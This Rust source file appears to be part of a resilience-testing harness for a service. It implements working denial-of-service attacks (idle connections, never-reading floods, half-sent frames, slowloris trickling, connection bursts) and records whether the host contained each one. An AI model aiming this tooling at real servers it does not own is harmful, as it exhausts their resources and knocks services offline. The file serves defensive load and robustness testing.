//! The attacks over plain connections: idle, noread, half-frame, slowloris, connect-burst.

use std::collections::BTreeMap;
use std::io;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use anyhow::anyhow;
use bytes::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::TcpStream;
use tokio::sync::{mpsc, watch, Semaphore};
use tokio::task::JoinSet;
use tokio::time::timeout;

use super::probe::short;
use super::wire;
use super::{Details, Flood, Plan, Scheme, Target, Tracker};
use crate::experiments::round1;

/// How long opening one attacking connection (connect, and the handshake on tcp) may take.
const OPEN_TIMEOUT: Duration = Duration::from_secs(10);

/// Connections being opened at once (the attacks' ramp; connect-burst opens all at once).
const OPENING: usize = 256;

/// Connects, and on tcp completes the keel-wire handshake. On http with `greet`, asks
/// `GET /Calculator` and reads the whole answer: the proof that the host accepted the
/// connection (a connect alone completes in the kernel, accepted or not).
async fn open(target: &Target, greet: bool) -> Result<TcpStream, String> {
    let opened = timeout(OPEN_TIMEOUT, async {
        let mut s = TcpStream::connect(target.addr)
            .await
            .map_err(|e| format!("connect: {}", short(&e)))?;
        let _ = s.set_nodelay(true);
        match target.scheme {
            Scheme::Tcp => wire::handshake(&mut s)
                .await
                .map_err(|e| format!("handshake: {}", short(&e)))?,
            Scheme::Http if greet => {
                get_describe(&mut s, &target.authority, true)
                    .await
                    .map_err(|e| format!("GET: {}", short(&e)))?;
            }
            Scheme::Http => {}
        }
        Ok(s)
    })
    .await;
    opened.unwrap_or_else(|_| Err("open: timed out".into()))
}

/// Sends `GET /Calculator` (keep-alive) and reads the answer's head, and with `whole` its body
/// too (by its Content-Length); returns the status.
async fn get_describe(s: &mut TcpStream, authority: &str, whole: bool) -> io::Result<u16> {
    let get = format!(
        "GET /{} HTTP/1.1\r\nHost: {authority}\r\n\r\n",
        wire::SERVICE
    );
    s.write_all(get.as_bytes()).await?;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        if let Some(head_end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            let status = wire::http_status(&buf).ok_or_else(|| io::Error::other("not HTTP"))?;
            if !whole {
                return Ok(status);
            }
            let head = String::from_utf8_lossy(&buf[..head_end]).to_ascii_lowercase();
            let length = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse::<usize>().ok())
                .ok_or_else(|| io::Error::other("no content-length"))?;
            if buf.len() >= head_end + 4 + length {
                return Ok(status);
            }
        }
        let n = s.read(&mut chunk).await?;
        if n == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        buf.extend_from_slice(&chunk[..n]);
    }
}

/// What an attacking connection does after it is open.
#[derive(Debug, Clone)]
enum Role {
    /// Nothing.
    Idle,
    /// Sends these bytes, then nothing.
    Send(Bytes),
    /// Sends one byte of a message that never ends every `interval`.
    Trickle(Duration),
}

/// What the attacking connections of one attack share.
#[derive(Debug)]
struct Shared {
    tracker: Arc<Tracker>,
    scheme: Scheme,
    /// Bytes written (accepted by the kernel), all connections.
    sent: AtomicU64,
    /// Connections that wrote everything they had to ([`Role::Send`]).
    complete: AtomicUsize,
    /// What the host said on the connections it closed ("HTTP 408", "GoAway: ...").
    last_words: Mutex<BTreeMap<String, usize>>,
}

impl Shared {
    fn new(tracker: &Arc<Tracker>, scheme: Scheme) -> Arc<Shared> {
        Arc::new(Shared {
            tracker: tracker.clone(),
            scheme,
            sent: AtomicU64::new(0),
            complete: AtomicUsize::new(0),
            last_words: Mutex::new(BTreeMap::new()),
        })
    }

    fn host_closed(&self, words: String) {
        self.tracker.host_closed();
        *self
            .last_words
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .entry(words)
            .or_insert(0) += 1;
    }

    fn last_words(&self) -> BTreeMap<String, usize> {
        self.last_words
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .clone()
    }
}

/// Tallies of failures by reason.
#[derive(Debug, Default)]
struct Failures(BTreeMap<String, usize>);

impl Failures {
    fn add(&mut self, why: String) {
        *self.0.entry(why).or_insert(0) += 1;
    }

    fn count(&self) -> usize {
        self.0.values().sum()
    }

    fn text(&self) -> String {
        let v: Vec<String> = self.0.iter().map(|(e, n)| format!("{e} ×{n}")).collect();
        v.join(", ")
    }
}

/// Runs one attacking connection in its role until the host closes it or `stop`.
async fn play(s: TcpStream, role: Role, shared: Arc<Shared>, mut stop: watch::Receiver<bool>) {
    let (rd, wr) = s.into_split();
    let reader = last_words(rd, shared.scheme);
    let writer = write_role(wr, role, &shared);
    tokio::select! {
        words = reader => shared.host_closed(words),
        e = writer => shared.host_closed(format!("write failed: {}", short(&e))),
        _ = stop.wait_for(|s| *s) => {}
    }
}

/// Writes what `role` says; returns only when a write fails.
async fn write_role(mut wr: OwnedWriteHalf, role: Role, shared: &Shared) -> io::Error {
    match role {
        Role::Idle => std::future::pending().await,
        Role::Send(bytes) => {
            let mut off = 0;
            while off < bytes.len() {
                let end = (off + 64 * 1024).min(bytes.len());
                match wr.write(&bytes[off..end]).await {
                    Ok(0) => return io::Error::from(io::ErrorKind::WriteZero),
                    Ok(n) => {
                        off += n;
                        shared.sent.fetch_add(n as u64, Ordering::Relaxed);
                    }
                    Err(e) => return e,
                }
            }
            shared.complete.fetch_add(1, Ordering::Relaxed);
            std::future::pending().await
        }
        Role::Trickle(interval) => {
            // tcp: a Request frame announcing a 1 MiB body; http: a head of endless lines.
            let mut head = Vec::new();
            wire::request_head(1, 1 << 20, &mut head);
            let mut i = 0usize;
            loop {
                let byte = match shared.scheme {
                    Scheme::Tcp => head.get(i).copied().unwrap_or(0),
                    Scheme::Http => wire::endless_head_byte(i),
                };
                if let Err(e) = wr.write_all(&[byte]).await {
                    return e;
                }
                shared.sent.fetch_add(1, Ordering::Relaxed);
                i += 1;
                tokio::time::sleep(interval).await;
            }
        }
    }
}

/// Reads what the host sends until it closes the connection; what it said last: the HTTP
/// status it answered, or the GoAway it sent (keel-wire), or how it closed.
async fn last_words(mut rd: OwnedReadHalf, scheme: Scheme) -> String {
    let mut kept = Vec::new();
    let mut chunk = vec![0u8; 16 * 1024];
    let how = loop {
        match rd.read(&mut chunk).await {
            Ok(0) => break "closed",
            Ok(n) => {
                if kept.len() < 64 * 1024 {
                    kept.extend_from_slice(&chunk[..n]);
                }
            }
            Err(e) if e.kind() == io::ErrorKind::ConnectionReset => break "reset",
            Err(_) => break "closed with an error",
        }
    };
    match scheme {
        Scheme::Http => match wire::http_status(&kept) {
            Some(status) => format!("HTTP {status}, {how}"),
            None => format!("{how} without an answer"),
        },
        Scheme::Tcp => match go_away_reason(&kept) {
            Some(reason) => format!("GoAway \"{reason}\", {how}"),
            None => format!("{how} without a GoAway"),
        },
    }
}

/// The reason of the first GoAway frame in `bytes` (frames after the handshake).
fn go_away_reason(mut bytes: &[u8]) -> Option<String> {
    while bytes.len() >= 5 {
        let len = u32::from_le_bytes(bytes[..4].try_into().ok()?) as usize;
        let frame = bytes.get(4..4 + len)?;
        if frame.first() == Some(&wire::GO_AWAY) && frame.len() >= 11 {
            return Some(String::from_utf8_lossy(&frame[11..]).into_owned());
        }
        bytes = &bytes[4 + len..];
    }
    None
}

/// Opens `plan.conns` connections (at most [`OPENING`] at a time) and plays `role` on each until
/// `plan.until`. Fills in how the opening went.
async fn swarm(plan: &Plan, tracker: &Arc<Tracker>, role: Role, d: &mut Details) -> Arc<Shared> {
    let greet = matches!(role, Role::Idle);
    let shared = Shared::new(tracker, plan.target.scheme);
    let (stop_tx, stop_rx) = watch::channel(false);
    let opening = Arc::new(Semaphore::new(OPENING));
    let (done_tx, mut done_rx) = mpsc::unbounded_channel::<Result<(), String>>();
    let mut set = JoinSet::new();
    let start = Instant::now();
    let mut launched = 0;
    for _ in 0..plan.conns {
        let permit = tokio::select! {
            p = opening.clone().acquire_owned() => p.expect("the semaphore is never closed"),
            _ = tokio::time::sleep_until(plan.until) => break,
        };
        launched += 1;
        let (target, role, shared, stop, done) = (
            plan.target.clone(),
            role.clone(),
            shared.clone(),
            stop_rx.clone(),
            done_tx.clone(),
        );
        set.spawn(async move {
            let opened = open(&target, greet).await;
            drop(permit);
            match opened {
                Ok(s) => {
                    shared.tracker.opened();
                    let _ = done.send(Ok(()));
                    play(s, role, shared, stop).await;
                }
                Err(e) => {
                    let _ = done.send(Err(e));
                }
            }
        });
    }
    drop(done_tx);
    let (mut ok, mut failures) = (0usize, Failures::default());
    while ok + failures.count() < launched {
        match tokio::time::timeout_at(plan.until, done_rx.recv()).await {
            Ok(Some(Ok(()))) => ok += 1,
            Ok(Some(Err(e))) => failures.add(e),
            _ => break,
        }
    }
    let ramp = start.elapsed();
    let mut line = format!(
        "opened {ok} of {} connections in {:.1} s",
        plan.conns,
        ramp.as_secs_f64()
    );
    if failures.count() > 0 {
        line += &format!("; {} failed to open: {}", failures.count(), failures.text());
    }
    d.line(line);
    d.set("opened", ok);
    d.set("open_failed", &failures.0);
    d.set("ramp_s", round1(ramp.as_secs_f64()));
    tokio::time::sleep_until(plan.until).await;
    let _ = stop_tx.send(true);
    while set.join_next().await.is_some() {}
    shared
}

/// Records what the host said on the connections it closed.
fn report_last_words(shared: &Shared, d: &mut Details) {
    let words = shared.last_words();
    if !words.is_empty() {
        let v: Vec<String> = words.iter().map(|(w, n)| format!("{w} ×{n}")).collect();
        d.line(format!("closed connections: {}", v.join("; ")));
    }
    d.set("last_words", words);
}

/// Finding 1: connections that stay idle (tcp: after the handshake; http: without a byte).
pub(crate) async fn idle(plan: &Plan, tracker: &Arc<Tracker>) -> anyhow::Result<Details> {
    let mut d = Details::default();
    let shared = swarm(plan, tracker, Role::Idle, &mut d).await;
    report_last_words(&shared, &mut d);
    Ok(d)
}

/// Finding 4: connections that send all but the last byte of a large message.
pub(crate) async fn half_frame(plan: &Plan, tracker: &Arc<Tracker>) -> anyhow::Result<Details> {
    let size = usize::try_from(plan.message_bytes)?;
    let mut prefix = Vec::with_capacity(size);
    match plan.target.scheme {
        Scheme::Tcp => {
            // The whole frame, length prefix included, is `size` bytes.
            let body = size
                .checked_sub(4 + wire::request_len(0))
                .ok_or_else(|| anyhow!("--message-bytes is smaller than a Request frame"))?;
            wire::request_head(1, body, &mut prefix);
        }
        Scheme::Http => prefix.extend_from_slice(
            wire::http_post_head(&plan.target.authority, plan.message_bytes, false).as_bytes(),
        ),
    }
    let whole = prefix.len()
        + match plan.target.scheme {
            Scheme::Tcp => size - prefix.len(),
            Scheme::Http => size,
        };
    prefix.resize(whole - 1, b' ');
    let per_conn = prefix.len() as u64;
    let mut d = Details::default();
    let shared = swarm(plan, tracker, Role::Send(Bytes::from(prefix)), &mut d).await;
    let sent = shared.sent.load(Ordering::Relaxed);
    let complete = shared.complete.load(Ordering::Relaxed);
    d.line(format!(
        "sent {:.1} MiB; {complete} connections sent all {per_conn} bytes of theirs (all but the last byte)",
        sent as f64 / (1 << 20) as f64
    ));
    d.set("bytes_sent", sent);
    d.set("bytes_per_conn", per_conn);
    d.set("complete", complete);
    report_last_words(&shared, &mut d);
    d.contained = Some(tracker.all_closed());
    Ok(d)
}

/// Finding 4: connections that send a message that never ends, one byte every interval.
pub(crate) async fn slowloris(plan: &Plan, tracker: &Arc<Tracker>) -> anyhow::Result<Details> {
    let mut d = Details::default();
    let shared = swarm(plan, tracker, Role::Trickle(plan.interval), &mut d).await;
    let sent = shared.sent.load(Ordering::Relaxed);
    d.line(format!(
        "trickled {sent} bytes in all, one per {} ms per connection",
        plan.interval.as_millis()
    ));
    d.set("bytes_sent", sent);
    report_last_words(&shared, &mut d);
    d.contained = Some(tracker.all_closed());
    Ok(d)
}

/// How one flooding connection ended.
#[derive(Debug)]
struct FloodEnd {
    /// When it had sent its share, if it did.
    all_sent_at: Option<f64>,
    /// How and when the host closed it, if it did.
    closed: Option<(String, f64)>,
}

/// Floods `s` with `cap` bytes of `frames` without ever reading, then keeps it open (a ping a
/// second notices a close) until `until`.
async fn flood(
    s: TcpStream,
    frames: Flood,
    cap: u64,
    until: tokio::time::Instant,
    sent: Arc<AtomicU64>,
    flooding: Arc<AtomicUsize>,
    tracker: Arc<Tracker>,
) -> FloodEnd {
    // The read half is kept (so the connection stays open) and never read.
    let (_rd, mut wr) = s.into_split();
    let frame_bytes = match frames {
        Flood::Ping => wire::PING_BYTES as u64,
        Flood::Request => wire::ADD_REQUEST_BYTES as u64,
    };
    let per_chunk = (64 * 1024 / frame_bytes).max(1);
    let (mut total, mut next_id, mut chunk, mut off) = (0u64, 1u64, Vec::new(), 0usize);
    let mut closed: Option<String> = None;
    while total < cap {
        if off == chunk.len() {
            chunk.clear();
            off = 0;
            for _ in 0..per_chunk.min((cap - total) / frame_bytes) {
                match frames {
                    Flood::Ping => wire::ping(next_id, &mut chunk),
                    Flood::Request => wire::add_request(next_id, &mut chunk),
                }
                next_id += 1;
            }
        }
        match tokio::time::timeout_at(until, wr.write(&chunk[off..])).await {
            Err(_) => break,
            Ok(Ok(0)) => {
                closed = Some("write returned 0".into());
                break;
            }
            Ok(Ok(n)) => {
                off += n;
                total += n as u64;
                sent.fetch_add(n as u64, Ordering::Relaxed);
            }
            Ok(Err(e)) => {
                closed = Some(short(&e));
                break;
            }
        }
    }
    flooding.fetch_sub(1, Ordering::Relaxed);
    let all_sent_at = (total >= cap).then(|| round1(tracker.now_s()));
    // Still not reading, until the end: one more ping a second notices when the host closes.
    if closed.is_none() {
        let mut one = Vec::new();
        wire::ping(0, &mut one);
        loop {
            let write = async {
                tokio::time::sleep(Duration::from_secs(1)).await;
                wr.write_all(&one).await
            };
            match tokio::time::timeout_at(until, write).await {
                Err(_) => break,
                Ok(Err(e)) => {
                    closed = Some(short(&e));
                    break;
                }
                Ok(Ok(())) => {}
            }
        }
    }
    let closed = closed.map(|why| {
        tracker.host_closed();
        (why, round1(tracker.now_s()))
    });
    FloodEnd {
        all_sent_at,
        closed,
    }
}

/// Finding 2: connections (one by default) flood pings or requests and never read. The flood
/// (`--bytes` or `--requests`) is shared out among them.
pub(crate) async fn noread(plan: &Plan, tracker: &Arc<Tracker>) -> anyhow::Result<Details> {
    let (frame_bytes, cap) = match plan.frames {
        Flood::Ping => (wire::PING_BYTES as u64, plan.bytes),
        Flood::Request => (
            wire::ADD_REQUEST_BYTES as u64,
            plan.requests * wire::ADD_REQUEST_BYTES as u64,
        ),
    };
    let conns = plan.conns as u64;
    let per_conn = (cap / conns / frame_bytes).max(1) * frame_bytes;
    let cap = per_conn * conns;
    let mut streams = Vec::new();
    for _ in 0..plan.conns {
        streams.push(open(&plan.target, false).await.map_err(|e| anyhow!(e))?);
        tracker.opened();
    }
    let sent = Arc::new(AtomicU64::new(0));
    // Connections still flooding; stalls count only while there are some.
    let flooding = Arc::new(AtomicUsize::new(plan.conns));

    // Samples progress every 100 ms: the timeline, and stalls (2 s or more without a byte).
    let (stop_tx, mut stop_rx) = watch::channel(false);
    let monitor = {
        let (sent, tracker, flooding) = (sent.clone(), tracker.clone(), flooding.clone());
        tokio::spawn(async move {
            let mut timeline = Vec::new();
            let mut stalls: Vec<(f64, Option<f64>)> = Vec::new();
            let (mut last, mut last_at, mut next_mark) = (0u64, 0.0f64, 1.0f64);
            loop {
                tokio::select! {
                    _ = tokio::time::sleep(Duration::from_millis(100)) => {}
                    _ = stop_rx.wait_for(|s| *s) => break,
                }
                let (now, n) = (tracker.now_s(), sent.load(Ordering::Relaxed));
                if n != last {
                    if let Some((_, end @ None)) = stalls.last_mut() {
                        *end = Some(round1(now));
                    }
                    (last, last_at) = (n, now);
                } else if flooding.load(Ordering::Relaxed) > 0
                    && now - last_at >= 2.0
                    && !matches!(stalls.last(), Some((_, None)))
                {
                    stalls.push((round1(last_at), None));
                }
                if now >= next_mark {
                    timeline.push((round1(now), round1(n as f64 / (1 << 20) as f64)));
                    next_mark += 1.0;
                }
            }
            (timeline, stalls)
        })
    };
    let mut set = JoinSet::new();
    for s in streams {
        set.spawn(flood(
            s,
            plan.frames,
            per_conn,
            plan.until,
            sent.clone(),
            flooding.clone(),
            tracker.clone(),
        ));
    }
    let mut ends = Vec::new();
    while let Some(end) = set.join_next().await {
        ends.push(end?);
    }
    let _ = stop_tx.send(true);
    let (timeline, stalls) = monitor.await?;

    let total = sent.load(Ordering::Relaxed);
    let frames = total / frame_bytes;
    let all_sent: Vec<f64> = ends.iter().filter_map(|e| e.all_sent_at).collect();
    let closes: Vec<&(String, f64)> = ends.iter().filter_map(|e| e.closed.as_ref()).collect();
    let what = match plan.frames {
        Flood::Ping => "pings",
        Flood::Request => "requests",
    };
    let mut d = Details::default();
    let on = if plan.conns == 1 {
        String::new()
    } else {
        format!(" on {} connections", plan.conns)
    };
    let mut line = format!(
        "sent {frames} {what} ({:.1} MiB){on} without reading",
        total as f64 / (1 << 20) as f64
    );
    if all_sent.len() == plan.conns {
        let last = all_sent.iter().copied().fold(0.0, f64::max);
        line += &format!("; all of them by {last:.1} s, never held back");
    } else {
        line += &format!(" of the {} planned", cap / frame_bytes);
        if !all_sent.is_empty() {
            line += &format!(" ({} connections sent their whole share)", all_sent.len());
        }
    }
    d.line(line);
    let stalled_for_good = matches!(stalls.last(), Some((_, None)));
    for (from, to) in &stalls {
        match to {
            Some(to) => d.line(format!(
                "the host stopped reading at {from:.1} s, resumed at {to:.1} s"
            )),
            None => d.line(format!("the host stopped reading at {from:.1} s, for good")),
        }
    }
    if let Some((why, t)) = closes.iter().max_by(|a, b| a.1.total_cmp(&b.1)) {
        d.line(format!(
            "the host closed {} of {} connections ({why}), the last by {t:.1} s",
            closes.len(),
            plan.conns
        ));
    }
    if stalled_for_good && closes.len() < plan.conns {
        d.line(format!(
            "the host never closed {} of the connections, though it stopped reading",
            plan.conns - closes.len()
        ));
    }
    d.set("frames_sent", frames);
    d.set("bytes_sent", total);
    d.set("all_sent", all_sent.len());
    d.set(
        "all_sent_at_s",
        (all_sent.len() == plan.conns).then(|| all_sent.iter().copied().fold(0.0, f64::max)),
    );
    d.set("stalls", stalls);
    d.set("closed", closes.len());
    d.set(
        "closed_at_s",
        closes
            .iter()
            .map(|c| c.1)
            .fold(None, |m: Option<f64>, t| Some(m.map_or(t, |m| m.max(t)))),
    );
    d.set("sent_mib_by_s", timeline);
    // Contained: the host held the flood back, and closed the connections that do not read.
    d.contained = Some(all_sent.is_empty() && closes.len() == plan.conns);
    Ok(d)
}

/// Finding 5: `plan.conns` connects at once; each then handshakes (tcp) or asks
/// `GET /Calculator` (http), and stays open until the end.
pub(crate) async fn connect_burst(plan: &Plan, tracker: &Arc<Tracker>) -> anyhow::Result<Details> {
    #[derive(Debug)]
    struct One {
        connect: Result<Duration, String>,
        served: Result<Duration, String>,
    }
    let shared = Shared::new(tracker, plan.target.scheme);
    let (stop_tx, stop_rx) = watch::channel(false);
    let (done_tx, mut done_rx) = mpsc::unbounded_channel::<One>();
    // Connects in flight at once: a permit is held from the connect until it completes.
    let in_flight = Arc::new(Semaphore::new(
        plan.in_flight.clamp(1, Semaphore::MAX_PERMITS),
    ));
    let start = Instant::now();
    let mut set = JoinSet::new();
    for _ in 0..plan.conns {
        let permit = tokio::select! {
            p = in_flight.clone().acquire_owned() => p.expect("the semaphore is never closed"),
            _ = tokio::time::sleep_until(plan.until) => break,
        };
        let (target, shared, stop, done) = (
            plan.target.clone(),
            shared.clone(),
            stop_rx.clone(),
            done_tx.clone(),
        );
        set.spawn(async move {
            let t = Instant::now();
            let connected = timeout(Duration::from_secs(15), TcpStream::connect(target.addr)).await;
            drop(permit);
            let mut s = match connected {
                Ok(Ok(s)) => s,
                Ok(Err(e)) => {
                    let why = format!("connect: {}", short(&e));
                    let _ = done.send(One {
                        connect: Err(why.clone()),
                        served: Err(why),
                    });
                    return;
                }
                Err(_) => {
                    let why = "connect: timed out".to_string();
                    let _ = done.send(One {
                        connect: Err(why.clone()),
                        served: Err(why),
                    });
                    return;
                }
            };
            let connect = t.elapsed();
            shared.tracker.opened();
            let served = timeout(Duration::from_secs(15), async {
                match target.scheme {
                    Scheme::Tcp => wire::handshake(&mut s).await,
                    Scheme::Http => get_describe(&mut s, &target.authority, true)
                        .await
                        .map(drop),
                }
            })
            .await;
            let served = match served {
                Ok(Ok(())) => Ok(t.elapsed()),
                Ok(Err(e)) => Err(format!("served: {}", short(&e))),
                Err(_) => Err("served: timed out".into()),
            };
            let closed = match &served {
                Err(e) if !e.ends_with("timed out") => Some(e.clone()),
                _ => None,
            };
            let ok = served.is_ok();
            let _ = done.send(One {
                connect: Ok(connect),
                served,
            });
            if let Some(e) = closed {
                shared.host_closed(e);
            } else if ok {
                play(s, Role::Idle, shared, stop).await;
            }
        });
    }
    drop(done_tx);
    let mut all = Vec::new();
    while all.len() < plan.conns {
        match tokio::time::timeout_at(plan.until, done_rx.recv()).await {
            Ok(Some(one)) => all.push(one),
            _ => break,
        }
    }
    let burst = start.elapsed();
    // Hold the connections a moment, like clients would, then close them all.
    tokio::time::sleep(
        Duration::from_secs(1).min(
            plan.until
                .saturating_duration_since(tokio::time::Instant::now()),
        ),
    )
    .await;
    let _ = stop_tx.send(true);
    while set.join_next().await.is_some() {}

    let ms = |d: &Duration| d.as_secs_f64() * 1e3;
    let mut connects: Vec<f64> = all
        .iter()
        .filter_map(|o| o.connect.as_ref().ok().map(ms))
        .collect();
    let mut served: Vec<f64> = all
        .iter()
        .filter_map(|o| o.served.as_ref().ok().map(ms))
        .collect();
    connects.sort_by(f64::total_cmp);
    served.sort_by(f64::total_cmp);
    let mut failures = Failures::default();
    for o in &all {
        if let Err(e) = &o.served {
            failures.add(e.clone());
        }
    }
    let missing = plan.conns - all.len();
    if missing > 0 {
        failures.add_n("no answer before the end", missing);
    }
    let pct = |v: &[f64], q: f64| {
        v.get(((v.len() as f64 * q) as usize).min(v.len().saturating_sub(1)))
            .copied()
            .unwrap_or(0.0)
    };
    let slow_connects = connects.iter().filter(|&&m| m >= 1000.0).count();
    let slow_served = served.iter().filter(|&&m| m >= 1000.0).count();
    let mut d = Details::default();
    d.line(format!(
        "{} connects in {:.2} s: p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms; {slow_connects} took ≥ 1 s",
        connects.len(),
        burst.as_secs_f64(),
        pct(&connects, 0.5),
        pct(&connects, 0.99),
        connects.last().copied().unwrap_or(0.0)
    ));
    let what = match plan.target.scheme {
        Scheme::Tcp => "handshakes answered",
        Scheme::Http => "GETs answered",
    };
    let mut line = format!(
        "{} {what}: p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms; {slow_served} took ≥ 1 s",
        served.len(),
        pct(&served, 0.5),
        pct(&served, 0.99),
        served.last().copied().unwrap_or(0.0)
    );
    if failures.count() > 0 {
        line += &format!("; failed: {}", failures.text());
    }
    d.line(line);
    d.set("burst_s", round1(burst.as_secs_f64()));
    d.set("connected", connects.len());
    d.set("connect_p50_ms", round1(pct(&connects, 0.5)));
    d.set("connect_p99_ms", round1(pct(&connects, 0.99)));
    d.set(
        "connect_max_ms",
        round1(connects.last().copied().unwrap_or(0.0)),
    );
    d.set("connects_over_1s", slow_connects);
    d.set("served", served.len());
    d.set("served_p99_ms", round1(pct(&served, 0.99)));
    d.set(
        "served_max_ms",
        round1(served.last().copied().unwrap_or(0.0)),
    );
    d.set("served_over_1s", slow_served);
    d.set("failed", &failures.0);
    d.contained = Some(slow_connects == 0 && slow_served == 0 && served.len() == plan.conns);
    Ok(d)
}

impl Failures {
    fn add_n(&mut self, why: &str, n: usize) {
        *self.0.entry(why.to_string()).or_insert(0) += n;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn go_away_reasons_are_found_after_pings() {
        let mut bytes = Vec::new();
        wire::ping(1, &mut bytes);
        let reason = b"idle";
        bytes.extend_from_slice(&((11 + reason.len()) as u32).to_le_bytes());
        bytes.push(wire::GO_AWAY);
        bytes.extend_from_slice(&0u64.to_le_bytes());
        bytes.extend_from_slice(&(reason.len() as u16).to_le_bytes());
        bytes.extend_from_slice(reason);
        assert_eq!(go_away_reason(&bytes).as_deref(), Some("idle"));
        assert_eq!(go_away_reason(&bytes[..13]), None);
    }
}
